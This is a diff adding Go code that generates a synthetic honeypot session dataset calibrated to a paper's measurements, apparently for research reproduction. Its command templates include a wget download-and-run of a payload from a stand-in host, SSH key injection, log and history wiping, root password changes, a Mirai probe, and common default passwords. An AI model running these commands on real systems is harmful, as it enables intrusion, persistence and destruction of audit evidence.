@@ -1,0 +1,678 @@
+package workload
+
+import (
+	"fmt"
+	"math"
+	"math/rand"
+	"time"
+
+	"honeyfarm/internal/analysis"
+	"honeyfarm/internal/geo"
+	"honeyfarm/internal/honeypot"
+	"honeyfarm/internal/malware"
+	"honeyfarm/internal/store"
+)
+
+// PaperTotalSessions is the paper's dataset size; the generator's scale
+// factor is TotalSessions / PaperTotalSessions.
+const PaperTotalSessions = 402_000_000
+
+// PaperDays is the observation period length (2021-12-01 → 2023-03-31).
+const PaperDays = 486
+
+// CategoryShare is Table 1's top row: the fraction of all sessions per
+// category.
+var CategoryShare = [analysis.NumCategories]float64{
+	analysis.NoCred:  0.277,
+	analysis.FailLog: 0.42,
+	analysis.NoCmd:   0.116,
+	analysis.Cmd:     0.18,
+	analysis.CmdURI:  0.007,
+}
+
+// SSHShare is Table 1's per-category protocol split: the fraction of
+// each category's sessions that use SSH.
+var SSHShare = [analysis.NumCategories]float64{
+	analysis.NoCred:  0.2182,
+	analysis.FailLog: 0.9924,
+	analysis.NoCmd:   0.9830,
+	analysis.Cmd:     0.9369,
+	analysis.CmdURI:  0.6245,
+}
+
+// sessionsPerActorDay tunes how many category-c sessions one active
+// client emits per day, which sets the daily-unique-IP levels of
+// Figure 11 relative to the session totals.
+var sessionsPerActorDay = [analysis.NumCategories]float64{
+	analysis.NoCred:  3.0,
+	analysis.FailLog: 4.0,
+	analysis.NoCmd:   1.5,
+	analysis.Cmd:     2.0,
+	analysis.CmdURI:  1.5,
+}
+
+// Config parameterizes dataset generation.
+type Config struct {
+	Seed          int64
+	TotalSessions int // default 400,000 (≈1/1000 of the paper)
+	Days          int // default 486
+	NumPots       int // default 221
+	Registry      *geo.Registry
+	Epoch         time.Time
+	Spikes        []Spike // default DefaultSpikes()
+	// IPDivisor scales campaign client-IP counts (default 40). Counts
+	// below 100 are kept absolute so "handful of IPs" campaigns stay
+	// a handful.
+	IPDivisor float64
+	// MidTierCampaigns sets the multi-week hash-campaign count feeding
+	// Figure 17's recurring base (default scales with TotalSessions).
+	MidTierCampaigns int
+	// DisableCampaigns drops all hash campaigns (archetypes, Mirai
+	// cluster, mid-tier), leaving only the generic background — the
+	// ablation isolating how much of the paper's hash landscape is
+	// campaign-driven.
+	DisableCampaigns bool
+	// Shares overrides Table 1's category mix (must sum to ≈1); nil
+	// keeps the paper's calibration.
+	Shares *[analysis.NumCategories]float64
+	// SSHShares overrides the per-category SSH fraction; nil keeps the
+	// paper's calibration.
+	SSHShares *[analysis.NumCategories]float64
+}
+
+// Result is a generated dataset plus its provenance.
+type Result struct {
+	Store  *store.Store
+	Actors int
+	// Tags maps every campaign hash to its tag, feeding the Tagger.
+	Tags map[string]string
+	// Deployments echoes placement for downstream analyses.
+	Deployments []geo.Deployment
+}
+
+// Tagger returns the hash tagger for this dataset.
+func (r *Result) Tagger() analysis.Tagger {
+	return analysis.Tagger(malware.NewTagger(r.Tags))
+}
+
+// recentHash is one reuse-pool entry: a hash and the honeypot it was
+// first dropped on (reuse prefers the same honeypot, keeping most tail
+// hashes honeypot-local).
+type recentHash struct {
+	hash string
+	pot  int
+}
+
+// generator carries the run state.
+type generator struct {
+	cfg       Config
+	shares    [analysis.NumCategories]float64
+	sshShares [analysis.NumCategories]float64
+	rng       *rand.Rand
+	st        *store.Store
+	pop       *population
+	nextID    uint64
+
+	potSessionWeights []float64
+	potHashWeights    []float64
+	hashPots          *Sampler         // pot bias for file-creating sessions
+	spikeSets         map[string][]int // per-spike pot subsets
+
+	recentHashes []recentHash // reuse pool for generic file sessions
+	tailSeq      int
+	tags         map[string]string
+
+	deployments []geo.Deployment
+	// potsByCountry / potsByContinent index honeypots by location for the
+	// CMD+URI locality bias (Figure 16(b): sessions with URIs show more
+	// geographic proximity between client and honeypot).
+	potsByCountry   map[string][]int
+	potsByContinent map[geo.Continent][]int
+}
+
+// Generate produces a calibrated synthetic dataset.
+func Generate(cfg Config) (*Result, error) {
+	if cfg.Registry == nil {
+		return nil, fmt.Errorf("workload: Config.Registry is required")
+	}
+	if cfg.TotalSessions <= 0 {
+		cfg.TotalSessions = 400_000
+	}
+	if cfg.Days <= 0 {
+		cfg.Days = PaperDays
+	}
+	if cfg.NumPots <= 0 {
+		cfg.NumPots = 221
+	}
+	if cfg.Epoch.IsZero() {
+		cfg.Epoch = time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC)
+	}
+	if cfg.Spikes == nil {
+		cfg.Spikes = DefaultSpikes()
+	}
+	if cfg.IPDivisor <= 0 {
+		cfg.IPDivisor = 40
+	}
+	if cfg.MidTierCampaigns <= 0 {
+		cfg.MidTierCampaigns = 40 + cfg.TotalSessions/2500
+	}
+
+	rng := rand.New(rand.NewSource(cfg.Seed))
+	base := VisibilityWeights(cfg.NumPots)
+	shares := CategoryShare
+	if cfg.Shares != nil {
+		shares = *cfg.Shares
+	}
+	sshShares := SSHShare
+	if cfg.SSHShares != nil {
+		sshShares = *cfg.SSHShares
+	}
+	g := &generator{
+		cfg:       cfg,
+		shares:    shares,
+		sshShares: sshShares,
+		rng:       rng,
+		st:        store.New(cfg.Epoch),
+		// Distinct permutations: the honeypots with the most sessions are
+		// NOT the ones with the most clients or hashes (Sections 7.5, 8.4).
+		potSessionWeights: Permuted(base, cfg.Seed+101),
+		potHashWeights:    Permuted(base, cfg.Seed+202),
+		spikeSets:         make(map[string][]int),
+		tags:              make(map[string]string),
+	}
+	g.hashPots = NewSampler(g.potHashWeights)
+	g.pop = newPopulation(rng, cfg.Registry, cfg.NumPots, cfg.Days, g.potSessionWeights)
+
+	deployments, err := geo.Place(geo.PlacementConfig{
+		Seed: cfg.Seed, NumPots: cfg.NumPots,
+		NumASes:  numASesFor(cfg.NumPots),
+		Registry: cfg.Registry, Residental: true,
+		Countries: countriesFor(cfg.NumPots),
+	})
+	if err != nil {
+		return nil, fmt.Errorf("workload: placement: %w", err)
+	}
+
+	g.deployments = deployments
+	g.potsByCountry = make(map[string][]int)
+	g.potsByContinent = make(map[geo.Continent][]int)
+	for _, dep := range deployments {
+		if loc, ok := cfg.Registry.Lookup(dep.IP); ok {
+			g.potsByCountry[loc.Country] = append(g.potsByCountry[loc.Country], dep.ID)
+			g.potsByContinent[loc.Continent] = append(g.potsByContinent[loc.Continent], dep.ID)
+		}
+	}
+
+	var campaigns []*campaign
+	if !cfg.DisableCampaigns {
+		campaigns = g.buildCampaigns()
+	}
+	// Subtract expected campaign volume from the generic category quotas
+	// so Table 1's aggregate shares still hold.
+	var campaignSessions [analysis.NumCategories]int
+	for _, c := range campaigns {
+		campaignSessions[c.category] += c.sessions
+		// 40% of campaign sessions carry a FAIL_LOG precursor.
+		campaignSessions[analysis.FailLog] += c.sessions * 2 / 5
+	}
+
+	// Expected FAIL_LOG companion volume from ephemeral scanners (see
+	// actorFor) is pre-deducted from the FAIL_LOG budget.
+	ephemeralFailLog := int(0.12 * 0.3 * float64(cfg.TotalSessions) * shares[analysis.NoCred])
+	campaignSessions[analysis.FailLog] += ephemeralFailLog
+
+	// Generation order matters: FAIL_LOG and CMD run first so that the
+	// crossover picks building multi-role clients (Section 7.5) find
+	// populated pools.
+	order := []analysis.Category{analysis.FailLog, analysis.Cmd, analysis.NoCred, analysis.NoCmd, analysis.CmdURI}
+	for _, c := range order {
+		total := int(float64(cfg.TotalSessions)*shares[c]) - campaignSessions[c]
+		if total < 0 {
+			total = 0
+		}
+		g.generateGeneric(c, total, cfg.Days)
+	}
+	for _, c := range campaigns {
+		g.emitCampaign(c)
+	}
+
+	return &Result{
+		Store:       g.st,
+		Actors:      g.pop.actors,
+		Tags:        g.tags,
+		Deployments: deployments,
+	}, nil
+}
+
+// countriesFor keeps the default 55-country list when the farm is big
+// enough, otherwise truncates it.
+func countriesFor(numPots int) []string {
+	if numPots >= len(geo.HoneyfarmCountries) {
+		return nil
+	}
+	return geo.HoneyfarmCountries[:numPots]
+}
+
+func numASesFor(numPots int) int {
+	if numPots >= 65 {
+		return 65
+	}
+	return numPots
+}
+
+// generateGeneric emits the non-campaign sessions of one category.
+func (g *generator) generateGeneric(c analysis.Category, total, days int) {
+	if total <= 0 {
+		return
+	}
+	norm := envelopeMean(c, days)
+	share := 1.0 / norm // normalize envelope so the period total ≈ total
+	batch := make([]*honeypot.SessionRecord, 0, 4096)
+	for d := 0; d < days; d++ {
+		n, spikePots := dailyQuota(g.rng, total, share, c, d, days, g.cfg.Spikes)
+		var spikeSet []int
+		if spikePots > 0 {
+			spikeSet = g.spikeSet(c, spikePots)
+		}
+		target := int(float64(n)/sessionsPerActorDay[c]) + 1
+		for i := 0; i < n; i++ {
+			a := g.actorFor(c, d, target)
+			set := spikeSet
+			// Only the spike surplus routes to the spike subset; the
+			// baseline stays spread out.
+			if set != nil && g.rng.Float64() < 0.3 {
+				set = nil
+			}
+			rec := g.session(c, d, a, set)
+			batch = append(batch, rec)
+			if len(batch) == cap(batch) {
+				g.st.AddBatch(batch)
+				batch = make([]*honeypot.SessionRecord, 0, 4096)
+			}
+		}
+	}
+	g.st.AddBatch(batch)
+}
+
+// actorFor picks the session's client. NO_CMD's start/end windows route
+// to the dedicated datacenter prefix (Section 6: "a single prefix
+// originates most of these sessions ... a Russian datacenter"); other
+// sessions sometimes reuse a client from a different category's pool,
+// which is what makes >40% of IPs multi-category (Section 7.5: 222k of
+// the 450k CMD clients also run FAIL_LOG sessions).
+func (g *generator) actorFor(c analysis.Category, d, target int) *actor {
+	if c == analysis.NoCmd && (d < 60 || d > g.cfg.Days-90) && g.rng.Float64() < 0.7 {
+		return g.pop.ruActor()
+	}
+	if alt, p := crossSource(c); p > 0 && g.rng.Float64() < p {
+		if a := g.pop.fromPool(alt, d, g.rng); a != nil {
+			return a
+		}
+	}
+	// Scouting also reuses the day's scanners: the scan→brute-force
+	// pipeline runs from the same compromised hosts.
+	if c == analysis.FailLog && g.rng.Float64() < 0.30 {
+		if a := g.pop.fromPool(analysis.NoCred, d, g.rng); a != nil {
+			return a
+		}
+	}
+	// A slice of scans comes from throwaway one-day clients; a third of
+	// them also try credentials the same day (scan → brute-force).
+	if c == analysis.NoCred && g.rng.Float64() < 0.12 {
+		a := g.pop.newEphemeral(d, c)
+		if g.rng.Float64() < 0.3 {
+			g.emitCompanionFailLog(a, d)
+		}
+		return a
+	}
+	return g.pop.pick(c, d, target)
+}
+
+// crossSource returns the category whose clients category c borrows
+// from, and how often.
+func crossSource(c analysis.Category) (analysis.Category, float64) {
+	switch c {
+	case analysis.NoCred:
+		return analysis.FailLog, 0.40
+	case analysis.FailLog:
+		return analysis.Cmd, 0.35
+	case analysis.Cmd:
+		return analysis.FailLog, 0.50
+	case analysis.NoCmd:
+		return analysis.FailLog, 0.20
+	case analysis.CmdURI:
+		return analysis.Cmd, 0.30
+	}
+	return c, 0
+}
+
+// spikeSet returns (and caches) the honeypot subset targeted by a spike.
+func (g *generator) spikeSet(c analysis.Category, n int) []int {
+	key := fmt.Sprintf("%d/%d", c, n)
+	if set, ok := g.spikeSets[key]; ok {
+		return set
+	}
+	set := NewSampler(g.potSessionWeights).SampleK(g.rng, n)
+	g.spikeSets[key] = set
+	return set
+}
+
+// session builds one generic session record of category c.
+func (g *generator) session(c analysis.Category, day int, a *actor, spikeSet []int) *honeypot.SessionRecord {
+	g.nextID++
+	pot := g.pop.potFor(a, g.rng, spikeSet)
+	// File-creating sessions concentrate on a different honeypot head
+	// than raw session volume: the paper finds the hash-richest honeypots
+	// are not the busiest ones (Section 8.4).
+	if (c == analysis.Cmd || c == analysis.CmdURI) && g.rng.Float64() < 0.45 {
+		pot = g.hashPots.Sample(g.rng)
+	}
+	// CMD+URI clients pick targets closer to home (Figure 16(b)):
+	// "geographic locality may matter more when clients start picking
+	// targets for specific tasks".
+	if c == analysis.CmdURI {
+		pot = g.localizePot(a, pot)
+	}
+	proto := honeypot.Telnet
+	if g.rng.Float64() < g.sshShares[c] {
+		proto = honeypot.SSH
+	}
+	start := g.cfg.Epoch.Add(time.Duration(day)*24*time.Hour +
+		time.Duration(g.rng.Int63n(int64(24*time.Hour))))
+	rec := &honeypot.SessionRecord{
+		ID:         g.nextID,
+		HoneypotID: pot,
+		Protocol:   proto,
+		ClientIP:   a.ip,
+		ClientPort: 1024 + g.rng.Intn(60000),
+		Start:      start,
+	}
+	if proto == honeypot.SSH {
+		rec.ClientVersion = clientVersions[g.rng.Intn(len(clientVersions))]
+	}
+	var dur time.Duration
+	switch c {
+	case analysis.NoCred:
+		dur, rec.Termination = g.noCredEnding()
+	case analysis.FailLog:
+		rec.Logins = g.failedLogins()
+		if len(rec.Logins) >= 3 {
+			rec.Termination = honeypot.TermAuthFailure
+		} else {
+			rec.Termination = honeypot.TermClient
+		}
+		dur = time.Duration((2 + g.rng.ExpFloat64()*8) * float64(time.Second))
+		if dur > 59*time.Second {
+			dur = 59 * time.Second
+		}
+	case analysis.NoCmd:
+		rec.Logins = g.successfulLogin()
+		if g.rng.Float64() < 0.92 {
+			// >90% of NO_CMD sessions end in the 3-minute timeout.
+			rec.Termination = honeypot.TermTimeout
+			dur = 180*time.Second + time.Duration(g.rng.Int63n(int64(6*time.Second)))
+		} else {
+			rec.Termination = honeypot.TermClient
+			dur = time.Duration(10+g.rng.Intn(160)) * time.Second
+		}
+	case analysis.Cmd:
+		rec.Logins = g.successfulLogin()
+		rec.Commands = g.genericCommands()
+		if g.rng.Float64() < 1.0/3.0 {
+			// "about one third [of command sessions] create or modify
+			// files" (Section 6).
+			files, override := g.genericFile(day, rec.HoneypotID)
+			rec.Files = files
+			if override >= 0 {
+				rec.HoneypotID = override
+			}
+			if g.rng.Float64() < 0.015 {
+				extra, _ := g.genericFile(day, rec.HoneypotID)
+				rec.Files = append(rec.Files, extra...)
+			}
+		}
+		if g.rng.Float64() < 0.12 {
+			rec.Termination = honeypot.TermTimeout
+			dur = 180 * time.Second
+		} else {
+			rec.Termination = honeypot.TermExit
+			dur = time.Duration((10 + g.rng.ExpFloat64()*30) * float64(time.Second))
+			if dur > 178*time.Second {
+				dur = 178 * time.Second
+			}
+		}
+	case analysis.CmdURI:
+		rec.Logins = g.successfulLogin()
+		rec.Commands = downloadCommands
+		rec.URIs = []string{fmt.Sprintf("http://dl-%d.example/payload", g.rng.Intn(500))}
+		files, override := g.genericFile(day, rec.HoneypotID)
+		rec.Files = files
+		if override >= 0 {
+			rec.HoneypotID = override
+		}
+		dur = time.Duration((30 + g.rng.ExpFloat64()*60) * float64(time.Second))
+		if g.rng.Float64() < 0.15 {
+			// URI retrieval resets the timeout: these sessions exceed the
+			// 3-minute mark (Figure 7).
+			dur = 180*time.Second + time.Duration(g.rng.ExpFloat64()*float64(120*time.Second))
+		}
+		rec.Termination = honeypot.TermExit
+	}
+	rec.End = start.Add(dur)
+	return rec
+}
+
+// emitCompanionFailLog emits the credential-guessing session an
+// ephemeral scanner runs right after its port probe.
+func (g *generator) emitCompanionFailLog(a *actor, day int) {
+	g.nextID++
+	start := g.cfg.Epoch.Add(time.Duration(day)*24*time.Hour +
+		time.Duration(g.rng.Int63n(int64(24*time.Hour))))
+	rec := &honeypot.SessionRecord{
+		ID:            g.nextID,
+		HoneypotID:    a.pots[0],
+		Protocol:      honeypot.SSH,
+		ClientIP:      a.ip,
+		ClientPort:    1024 + g.rng.Intn(60000),
+		Start:         start,
+		ClientVersion: clientVersions[g.rng.Intn(len(clientVersions))],
+		Logins:        g.failedLogins(),
+		Termination:   honeypot.TermClient,
+	}
+	rec.End = start.Add(time.Duration(3+g.rng.Intn(25)) * time.Second)
+	g.st.Add(rec)
+}
+
+// localizePot redirects a session toward a honeypot in the client's
+// country (25%) or continent (30%) when the farm has one there.
+func (g *generator) localizePot(a *actor, pot int) int {
+	if a.country < 0 || a.country >= len(g.cfg.Registry.Countries()) {
+		return pot
+	}
+	country := g.cfg.Registry.Countries()[a.country]
+	r := g.rng.Float64()
+	if r < 0.25 {
+		if pots := g.potsByCountry[country.Code]; len(pots) > 0 {
+			return pots[g.rng.Intn(len(pots))]
+		}
+	}
+	if r < 0.55 {
+		if pots := g.potsByContinent[country.Continent]; len(pots) > 0 {
+			return pots[g.rng.Intn(len(pots))]
+		}
+	}
+	return pot
+}
+
+// noCredEnding draws the duration/termination of a scan session:
+// mostly client-closed within seconds, a fraction idling into the
+// pre-auth timeout (Figure 7's first dashed line).
+func (g *generator) noCredEnding() (time.Duration, honeypot.Termination) {
+	if g.rng.Float64() < 0.15 {
+		return 60 * time.Second, honeypot.TermTimeout
+	}
+	d := time.Duration((0.5 + g.rng.ExpFloat64()*4) * float64(time.Second))
+	if d > 59*time.Second {
+		d = 59 * time.Second
+	}
+	return d, honeypot.TermClient
+}
+
+var clientVersions = []string{
+	"SSH-2.0-libssh2_1.8.0",
+	"SSH-2.0-Go",
+	"SSH-2.0-PUTTY",
+	"SSH-2.0-libssh-0.6.3",
+	"SSH-2.0-OpenSSH_7.3",
+	"SSH-2.0-sshlib-0.1",
+	"SSH-2.0-8.36 FlowSsh",
+	"SSH-2.0-MGLNDD_22_SSH",
+}
+
+// Table 2: the ten most used successful passwords.
+var topPasswords = []string{
+	"admin", "1234", "3245gs5662d34", "dreambox", "vertex25ektks123",
+	"12345", "h3c", "1qaz2wsx3edc", "passw0rd", "GM8182",
+}
+
+var extraPasswords = []string{
+	"password", "123456", "default", "support", "system", "letmein",
+	"qwerty", "abc123", "toor", "changeme", "raspberry", "ubnt",
+}
+
+// Most-attempted non-root usernames (Section 6).
+var failUsers = []string{"nproc", "admin", "user", "test", "ubuntu", "oracle", "postgres", "git", "ftp", "guest"}
+
+// successfulLogin draws the credential list of a logged-in session:
+// possibly failed attempts first, then a success with a Table 2-shaped
+// password (Zipf over the top list plus a random tail).
+func (g *generator) successfulLogin() []honeypot.LoginAttempt {
+	var out []honeypot.LoginAttempt
+	for g.rng.Float64() < 0.25 && len(out) < 2 {
+		out = append(out, honeypot.LoginAttempt{
+			User: "root", Password: extraPasswords[g.rng.Intn(len(extraPasswords))],
+		})
+	}
+	var pw string
+	if g.rng.Float64() < 0.8 {
+		// Zipf over the top-10 list.
+		rank := int(math.Floor(10 * math.Pow(g.rng.Float64(), 2.2)))
+		if rank > 9 {
+			rank = 9
+		}
+		pw = topPasswords[rank]
+	} else {
+		pw = extraPasswords[g.rng.Intn(len(extraPasswords))]
+	}
+	return append(out, honeypot.LoginAttempt{User: "root", Password: pw, Success: true})
+}
+
+// failedLogins draws a FAIL_LOG session's attempts: wrong usernames or
+// root:root, one to three tries.
+func (g *generator) failedLogins() []honeypot.LoginAttempt {
+	n := 1 + g.rng.Intn(3)
+	out := make([]honeypot.LoginAttempt, 0, n)
+	for i := 0; i < n; i++ {
+		if g.rng.Float64() < 0.35 {
+			out = append(out, honeypot.LoginAttempt{User: "root", Password: "root"})
+		} else {
+			out = append(out, honeypot.LoginAttempt{
+				User:     failUsers[g.rng.Intn(len(failUsers))],
+				Password: extraPasswords[g.rng.Intn(len(extraPasswords))],
+			})
+		}
+	}
+	return out
+}
+
+// Shared command templates (Table 3's population): recon, credential
+// manipulation, key injection, script execution. Slices are shared
+// across records; analyses only read them.
+var (
+	reconCommands = []honeypot.CommandRecord{
+		{Input: "uname -a", Known: true},
+		{Input: "cat /proc/cpuinfo", Known: true},
+		{Input: "grep name", Known: true},
+		{Input: "wc -l", Known: true},
+		{Input: "free -m", Known: true},
+	}
+	reconShort = []honeypot.CommandRecord{
+		{Input: "uname -s -v -n -r -m", Known: true},
+		{Input: "w", Known: true},
+	}
+	credCommands = []honeypot.CommandRecord{
+		{Input: "passwd root", Known: true},
+		{Input: "chpasswd", Known: true},
+	}
+	keyInjectCommands = []honeypot.CommandRecord{
+		{Input: "mkdir -p .ssh", Known: true},
+		{Input: `echo "ssh-rsa AAAAB3NzaC1yc2E" >> .ssh/authorized_keys`, Known: true},
+		{Input: "chmod 700 .ssh", Known: true},
+	}
+	historyWipe = []honeypot.CommandRecord{
+		{Input: "export HISTFILE=/dev/null", Known: true},
+		{Input: "history -c", Known: true},
+		{Input: "rm -rf /var/log/wtmp", Known: true},
+	}
+	downloadCommands = []honeypot.CommandRecord{
+		{Input: "cd /tmp", Known: true},
+		{Input: "wget http://update.example/payload", Known: true},
+		{Input: "chmod 777 payload", Known: true},
+		{Input: "./payload", Known: false},
+	}
+	miraiProbe = []honeypot.CommandRecord{
+		{Input: "enable", Known: true},
+		{Input: "shell", Known: true},
+		{Input: "sh", Known: true},
+		{Input: "/bin/busybox ECCHI", Known: true},
+	}
+	genericTemplates = [][]honeypot.CommandRecord{
+		reconCommands, reconShort, credCommands, keyInjectCommands, historyWipe, miraiProbe,
+	}
+)
+
+func (g *generator) genericCommands() []honeypot.CommandRecord {
+	// Weighted toward recon, matching Table 3's head.
+	switch r := g.rng.Float64(); {
+	case r < 0.40:
+		return reconCommands
+	case r < 0.60:
+		return reconShort
+	default:
+		return genericTemplates[2+g.rng.Intn(len(genericTemplates)-2)]
+	}
+}
+
+// genericFile attaches a file hash to a generic command session: half
+// the time a brand-new single-observation hash (the long tail that
+// makes >60% of hashes honeypot-local), otherwise a recently seen one —
+// which prefers the honeypot it first landed on. The second return is
+// the honeypot override (-1 for none).
+func (g *generator) genericFile(day, pot int) ([]honeypot.FileRecord, int) {
+	var hash string
+	override := -1
+	if len(g.recentHashes) == 0 || g.rng.Float64() < 0.4 {
+		g.tailSeq++
+		hash = malware.SyntheticHash(fmt.Sprintf("tail-%d-%d", day, g.tailSeq))
+		g.recentHashes = append(g.recentHashes, recentHash{hash: hash, pot: pot})
+		if len(g.recentHashes) > 60 {
+			g.recentHashes = g.recentHashes[len(g.recentHashes)-60:]
+		}
+	} else {
+		// Bias reuse toward the most recent hashes so reuse decays over
+		// a few days, as Figure 17's 7-day freshness implies.
+		n := len(g.recentHashes)
+		idx := n - 1 - int(math.Floor(float64(n)*math.Pow(g.rng.Float64(), 3)))
+		if idx < 0 {
+			idx = 0
+		}
+		entry := g.recentHashes[idx]
+		hash = entry.hash
+		if g.rng.Float64() < 0.75 {
+			override = entry.pot // repeat drop on the same honeypot
+		}
+	}
+	return []honeypot.FileRecord{{
+		Path: "/var/tmp/.x", Hash: hash, Op: "create", Size: 64 + g.rng.Intn(4096),
+	}}, override
+}
